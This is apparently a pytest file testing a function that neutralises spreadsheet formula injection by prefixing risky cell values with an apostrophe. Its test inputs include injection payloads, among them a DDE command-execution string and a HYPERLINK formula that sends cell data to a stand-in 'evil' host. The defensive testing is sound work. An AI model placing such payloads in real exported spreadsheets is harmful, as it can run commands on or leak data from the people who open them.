"""What a spreadsheet program could run is escaped; what only looks a little like it is left alone."""

import pytest

from tasks.report.spreadsheets.formula_escape import escape_formula


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil/?"&A1)',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",  # noqa: RUF001
        "＋1",  # noqa: RUF001
        "－1",  # noqa: RUF001
        "＠SUM(1)",  # noqa: RUF001
        "-",
        "+49 (0)30 123",
        "--1",
        "=",
    ],
)
def test_what_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "text", "1=1", "a@b.example", " =1", "-12.50", "+4930123", "-1,234,567.89", "-5%", "'=1", "東京", "—"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text
